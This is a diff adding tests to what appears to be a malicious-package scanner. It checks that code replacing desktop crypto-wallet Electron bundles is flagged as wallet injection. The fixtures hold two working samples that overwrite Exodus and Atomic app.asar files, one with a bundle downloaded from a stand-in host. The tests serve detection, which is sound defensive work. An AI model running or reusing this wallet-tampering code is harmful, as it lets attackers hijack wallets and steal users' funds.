@@ -329,3 +329,41 @@ def test_a_process_environment_read_without_a_drop_or_a_drop_alone_is_no_theft(
     source: str,
 ) -> None:
     assert not danger(source, mode=ScanMode.PACKAGE) & {"CPL-THR-004", "CPL-THR-007"}
+
+
+# -- blind18: a desktop wallet's Electron bundle replaced (b18-ot-wallet-asar-replace) --------
+
+WALLET_BUNDLES = [
+    """
+    import glob, os, requests
+    base = os.getenv("LOCALAPPDATA")
+    targets = glob.glob(os.path.join(base, "exodus", "app-*", "resources", "app.asar"))
+    targets += glob.glob(os.path.join(base, "Programs", "atomic", "resources", "app.asar"))
+    asar = requests.get("https://cdn.example/a/app.asar").content
+    for t in targets:
+        with open(t, "wb") as fh:
+            fh.write(asar)
+    """,
+    """
+    import os, shutil
+    dst = os.path.join(os.environ["LOCALAPPDATA"], "Programs", "atomic", "resources", "app.asar")
+    shutil.copyfile(os.path.join(os.path.dirname(__file__), "x.bin"), dst)
+    """,
+]
+
+
+@pytest.mark.parametrize("source", WALLET_BUNDLES)
+def test_a_desktop_wallets_bundle_replaced_is_a_wallet_injection(source: str) -> None:
+    assert "CPL-THR-005" in danger(source, mode=ScanMode.PACKAGE)
+
+
+def test_an_electron_apps_own_bundle_built_or_named_in_prose_is_no_injection() -> None:
+    # a packaging tool writing the bundle of the app it builds; a docstring naming wallets
+    source = '''
+    import os, shutil
+    def package(build_dir, bundle):
+        """Copy the bundle to resources/app.asar (as Exodus or Atomic ship theirs)."""
+        shutil.copyfile(bundle, os.path.join(build_dir, "resources", "app.asar"))
+    '''
+    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
+        assert "CPL-THR-005" not in danger(source, mode=mode)
